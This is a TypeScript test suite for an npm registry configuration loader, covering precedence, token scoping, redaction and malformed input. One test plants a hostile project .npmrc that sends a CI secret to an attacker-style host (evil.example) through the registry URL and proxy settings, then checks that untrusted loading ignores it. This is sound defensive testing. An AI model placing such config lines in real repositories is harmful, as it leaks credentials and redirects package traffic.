import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { loadRegistryConfig } from '../../server/src/registry/npmConfig';
import { MetadataClient } from '../../server/src/registry/metadataClient';
import { startLoopbackRegistry } from '../support/loopbackRegistry';
import { npmrcSandbox as sandbox, type NpmrcSandbox } from '../support/npmrcSandbox';
import { projectRoot } from '../support/sharedFixtures';

test('project beats user beats global; env beats files; --registry beats all', async () => {
  const s = await sandbox();
  try {
    const projectRc = await s.write(join(s.project, '.npmrc'), 'registry=https://project.example/\n');
    const userRc = await s.write(join(s.home, '.npmrc'), 'registry=https://user.example/\nfetch-timeout=1234\n');
    const globalRc = await s.write(join(s.prefix, 'etc', 'npmrc'), 'registry=https://global.example/\nfetch-retries=7\noffline=true\n');

    let c = await s.load();
    assert.equal(c.defaultRegistry, 'https://project.example/');
    assert.deepEqual(c.originOf('registry'), { layer: 'project', file: projectRc });
    assert.equal(c.fetchTimeoutMs, 1234);
    assert.deepEqual(c.originOf('fetch-timeout'), { layer: 'user', file: userRc });
    assert.equal(c.fetchRetries, 7);
    assert.equal(c.offline, true);
    assert.deepEqual(c.originOf('fetch-retries'), { layer: 'global', file: globalRc });
    assert.equal(c.originOf('strict-ssl'), null, 'defaults have no origin');
    assert.deepEqual(c.files, { project: projectRc, user: userRc, global: globalRc, builtin: c.files.builtin });
    assert.equal(c.projectNpmrc, projectRc);
    assert.equal(c.layerValue('user', 'registry'), 'https://user.example/');

    await rm(projectRc);
    c = await s.load();
    assert.equal(c.defaultRegistry, 'https://user.example/');
    assert.equal(c.projectNpmrc, null);

    c = await loadRegistryConfig({ projectDir: s.project, env: { ...s.env, npm_config_registry: 'https://env.example' } });
    assert.equal(c.defaultRegistry, 'https://env.example/', 'trailing slash added');
    assert.equal(c.originOf('registry')?.layer, 'env');

    c = await loadRegistryConfig({
      projectDir: s.project,
      env: { ...s.env, npm_config_registry: 'https://env.example' },
      registryOverride: 'https://cli.example/',
    });
    assert.equal(c.defaultRegistry, 'https://cli.example/');

    // Explicit files, and npm_config_userconfig, replace ~/.npmrc and $PREFIX/etc/npmrc.
    const other = await s.write(join(s.root, 'other-npmrc'), 'registry=https://other.example/\n');
    c = await s.load({ userConfigFile: other, globalConfigFile: join(s.root, 'missing') });
    assert.equal(c.defaultRegistry, 'https://other.example/');
    assert.equal(c.fetchRetries, 2, 'global file replaced, so its fetch-retries is gone');
    c = await loadRegistryConfig({ projectDir: s.project, env: { ...s.env, npm_config_userconfig: other } });
    assert.equal(c.files.user, other);
    assert.equal(c.defaultRegistry, 'https://other.example/');
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

test('${VAR} expansion, scoped registries and credential entries', async () => {
  const s = await sandbox({ REG_TOKEN: 's3cret-token', CORP: 'corp.example' });
  try {
    await s.write(join(s.project, '.npmrc'), [
      '@corp:registry=https://${CORP}/npm/',
      '//${CORP}/npm/:_authToken=${REG_TOKEN}',
      '//literal.example/:_authToken=abc123literal',
      'init-author-name=${UNSET_VAR?}',
      '',
    ].join('\n'));
    const c = await s.load();
    assert.equal(c.registryFor('@corp/tool'), 'https://corp.example/npm/');
    assert.equal(c.registryFor('@other/tool'), 'https://registry.npmjs.org/');
    assert.equal(c.registryFor('left-pad'), 'https://registry.npmjs.org/');
    assert.equal(c.fetchOptions['//corp.example/npm/:_authToken'], 's3cret-token', 'passed exactly as npm passes it');
    assert.equal(c.get('init-author-name'), '');
    const entries = Object.fromEntries(c.authEntries.map((e) => [e.key, e]));
    assert.equal(entries['//corp.example/npm/:_authToken'].fromEnvVar, true);
    assert.equal(entries['//literal.example/:_authToken'].fromEnvVar, false);
    assert.equal(entries['//literal.example/:_authToken'].origin.layer, 'project');
    const text = c.describe();
    assert.ok(!text.includes('s3cret-token') && !text.includes('abc123literal'), text);
    assert.match(text, /\/\/corp\.example\/npm\/:_authToken: \(redacted, from an environment variable\)/);

    // npm's `scope` sends unscoped packages to that scope's registry too (pickRegistry does).
    await s.write(join(s.home, '.npmrc'), 'scope=corp\n');
    const scoped = await s.load();
    assert.equal(scoped.registryFor('left-pad'), 'https://corp.example/npm/');
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

test('a token configured for registry A never reaches registry B', async () => {
  const s = await sandbox();
  const a = await startLoopbackRegistry({
    manifests: [{ name: 'left-pad', version: '1.3.0', dist: { integrity: 'sha512-AA==' } }],
    tarballs: new Map([['left-pad@1.3.0', Buffer.from('x')]]),
    requireToken: 'token-for-a',
  });
  const b = await startLoopbackRegistry({
    manifests: [{ name: '@b/util', version: '2.0.0', dist: { integrity: 'sha512-BB==' } }],
    tarballs: new Map([['left-pad@1.3.0', Buffer.from('y')]]),
  });
  try {
    const hostA = a.url.replace(/^http:/, '');
    await s.write(join(s.home, '.npmrc'), `registry=${a.url}\n${hostA}:_authToken=token-for-a\n@b:registry=${b.url}\n`);
    const config = await s.load();
    assert.equal(config.registryFor('@b/util'), b.url);
    const client = new MetadataClient({ config, cacheDir: null, retries: 0 });
    const results = await client.lookupAll([
      { name: 'left-pad', version: '1.3.0' },
      { name: '@b/util', version: '2.0.0' },
    ]);
    assert.equal(results.get('left-pad@1.3.0')!.ok, true);
    assert.equal(results.get('@b/util@2.0.0')!.ok, true);
    assert.deepEqual(a.requests.map((r) => r.authorization), ['Bearer token-for-a']);
    assert.equal(b.requests.length, 1);
    assert.equal(b.requests[0].authorization, undefined, 'B must not see A\'s token');

    // A tarball URL on another host (as a packument could name) gets no token either.
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const regFetch = require('npm-registry-fetch') as (url: string, opts: Record<string, unknown>) => Promise<{ status: number; text(): Promise<string> }>;
    const opts = { ...config.fetchOptions, spec: 'left-pad@1.3.0', retry: { retries: 0 } };
    assert.equal(await (await regFetch(`${b.url}left-pad/-/left-pad-1.3.0.tgz`, opts)).text(), 'y');
    assert.equal(b.requests.at(-1)!.authorization, undefined);
    assert.equal(await (await regFetch(`${a.url}left-pad/-/left-pad-1.3.0.tgz`, opts)).text(), 'x');
    assert.equal(a.requests.at(-1)!.authorization, 'Bearer token-for-a');
  } finally {
    await a.close();
    await b.close();
    await rm(s.root, { recursive: true, force: true });
  }
});

test('an untrusted project cannot redirect the registry or plant credentials', async () => {
  const s = await sandbox({ SECRET: 'ci-secret' });
  try {
    const userRc = await s.write(join(s.home, '.npmrc'), 'registry=https://user.example/\n');
    await s.write(join(s.project, '.npmrc'), [
      'registry=https://evil.example/${SECRET}/',
      '@corp:registry=https://evil.example/',
      '//evil.example/:_authToken=${SECRET}',
      'strict-ssl=false',
      'https-proxy=http://evil.example:8080/',
      `userconfig=${join(s.project, 'planted-npmrc')}`,
      'ignore-scripts=true',
      '',
    ].join('\n'));
    await s.write(join(s.project, 'planted-npmrc'), 'registry=https://planted.example/\n');

    const trusted = await s.load();
    assert.equal(trusted.defaultRegistry, 'https://evil.example/ci-secret/');
    assert.equal(trusted.strictSSL, false);

    const untrusted = await s.load({ trustProjectConfig: false });
    assert.equal(untrusted.defaultRegistry, 'https://user.example/');
    assert.equal(untrusted.files.user, userRc, 'a project userconfig= is ignored too');
    assert.equal(untrusted.registryFor('@corp/x'), 'https://user.example/');
    assert.equal(untrusted.strictSSL, true);
    assert.equal(untrusted.fetchOptions.httpsProxy, undefined, 'the project https-proxy is not handed on');
    assert.ok(!Object.keys(untrusted.fetchOptions).some((k) => k.startsWith('//evil')));
    assert.deepEqual(untrusted.ignoreScripts, { value: true, source: join(s.project, '.npmrc'), layer: 'project' });
    assert.deepEqual([...untrusted.ignoredProjectKeys].sort(), [
      '//evil.example/:_authToken', '@corp:registry', 'https-proxy', 'registry', 'strict-ssl', 'userconfig',
    ]);
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

test('TLS and proxy settings pass through; relative paths resolve in the project', async () => {
  const s = await sandbox();
  try {
    const cert = (n: number) => `-----BEGIN CERTIFICATE-----\nMIIB${n}\n-----END CERTIFICATE-----\n`;
    await mkdir(join(s.project, 'certs'));
    await s.write(join(s.project, 'certs', 'ca.pem'), cert(1) + cert(2));
    const projectRc = await s.write(join(s.project, '.npmrc'), 'strict-ssl=false\ncafile=certs/ca.pem\n');
    await s.write(join(s.home, '.npmrc'), [
      'proxy=http://proxy.example:3128/',
      'https-proxy=http://sproxy.example:3129/',
      'noproxy=localhost,.internal',
      `//${'reg.example'}/:certfile=client.crt`,
      `//${'reg.example'}/:keyfile=client.key`,
      '',
    ].join('\n'));
    const c = await s.load();
    assert.equal(c.fetchOptions.strictSSL, false);
    assert.equal(c.strictSSL, false);
    assert.deepEqual(c.originOf('strict-ssl'), { layer: 'project', file: projectRc });
    assert.equal(c.get('cafile'), join(s.project, 'certs', 'ca.pem'), 'resolved against the project, not the cwd');
    assert.deepEqual(c.fetchOptions.ca, [cert(1).trim(), cert(2).trim()]);
    assert.equal(c.fetchOptions.proxy, 'http://proxy.example:3128/');
    assert.equal(c.fetchOptions.httpsProxy, 'http://sproxy.example:3129/');
    assert.equal(c.fetchOptions.noProxy, 'localhost,.internal');
    assert.equal(c.fetchOptions['//reg.example/:certfile'], join(s.project, 'client.crt'));
    assert.equal(c.fetchOptions.cache, undefined, "npm's cache dir is not handed on");
    // Only the options that shape a request: every request copies the options several times.
    assert.equal(c.fetchOptions.save, undefined);
    assert.equal(c.fetchOptions.editor, undefined);
    assert.equal(c.fetchOptions.localAddress, undefined, 'unset options are left out');
    assert.ok(Object.keys(c.fetchOptions).length < 25, Object.keys(c.fetchOptions).join(' '));
    assert.deepEqual(c.problems, []);
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

test('ignore-scripts reports its value and where it came from', async () => {
  const s = await sandbox();
  try {
    let c = await s.load();
    assert.deepEqual(c.ignoreScripts, { value: false, source: null, layer: 'default' });
    const projectRc = await s.write(join(s.project, '.npmrc'), 'ignore-scripts=true\n');
    c = await s.load();
    assert.deepEqual(c.ignoreScripts, { value: true, source: projectRc, layer: 'project' });
    c = await loadRegistryConfig({ projectDir: s.project, env: { ...s.env, npm_config_ignore_scripts: 'false' } });
    assert.deepEqual(c.ignoreScripts, { value: false, source: 'environment', layer: 'env' });
    assert.equal(c.layerValue('project', 'ignore-scripts'), true, 'the project file still says true');
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

test('malformed config never throws and lists its problems', async () => {
  const s = await sandbox();
  try {
    await writeMalformed(s);
    const c = await s.load();
    const messages = c.problems.map((p) => p.message).join('\n');
    assert.match(messages, /"_authToken" is not scoped to a registry/);
    assert.match(messages, /fetch-retries="lots"/);
    assert.match(messages, /cafile .*missing\.pem does not exist/);
    assert.match(messages, /cannot read .*\.npmrc: EISDIR/);
    assert.equal(c.fetchOptions._authToken, undefined, 'an unscoped token is not used');
    assert.ok(!c.describe().includes('unscoped-secret'));
    assert.equal(c.fetchRetries, 2, 'invalid value dropped, default kept');
    assert.equal(c.defaultRegistry, 'https://registry.npmjs.org/');

    const twin = join(s.root, 'same');
    const broken = await s.load({ userConfigFile: twin, globalConfigFile: twin });
    assert.equal(broken.defaultRegistry, 'https://registry.npmjs.org/');
    assert.match(broken.problems[0].message, /npm config could not be loaded: double-loading/);
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

async function writeMalformed(s: NpmrcSandbox): Promise<void> {
  await s.write(join(s.project, '.npmrc'), [
    '\u0000\u0001 binary junk ]]] [[[',
    '_authToken=unscoped-secret',
    'fetch-retries=lots',
    'cafile=missing.pem',
    'auto-install-peers=true',
    'save-exact=maybe',
    '[section',
    '',
  ].join('\n'));
  await mkdir(join(s.home, '.npmrc')); // a directory where the user file should be
}

test('loading prints nothing and leaves process.env alone', async () => {
  const s = await sandbox();
  try {
    await writeMalformed(s);
    const result = join(s.root, 'result.json');
    const script = `
      const before = JSON.stringify(process.env);
      const { loadRegistryConfig } = require(${JSON.stringify(join(projectRoot, 'server/src/registry/npmConfig.ts'))});
      loadRegistryConfig({ projectDir: ${JSON.stringify(s.project)}, env: process.env }).then((c) => {
        require('node:fs').writeFileSync(${JSON.stringify(result)}, JSON.stringify({
          problems: c.problems.length, envSame: before === JSON.stringify(process.env) }));
      });`;
    const { stdout, stderr } = await new Promise<{ stdout: string; stderr: string }>((resolve, reject) => {
      execFile(process.execPath, ['--import', 'tsx', '-e', script], { cwd: projectRoot, env: { ...s.env, PATH: process.env.PATH } },
        (err, stdout, stderr) => (err ? reject(err) : resolve({ stdout, stderr })));
    });
    assert.equal(stdout, '');
    assert.equal(stderr, '');
    const r = JSON.parse(await readFile(result, 'utf8'));
    assert.ok(r.problems >= 4, 'the problems were there to print');
    assert.equal(r.envSame, true);
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});

test('describe() redacts credentials in registry URLs', async () => {
  const s = await sandbox();
  try {
    await s.write(join(s.project, '.npmrc'), 'registry=https://deploy:hunter2@npm.corp.example/\n//npm.corp.example/:_auth=ZGVwbG95Omh1bnRlcjI=\n');
    const c = await s.load();
    const text = c.describe();
    assert.ok(!text.includes('hunter2') && !text.includes('ZGVwbG95Omh1bnRlcjI='), text);
    assert.match(text, /registry: https:\/\/\*\*\*@npm\.corp\.example\//);
  } finally {
    await rm(s.root, { recursive: true, force: true });
  }
});
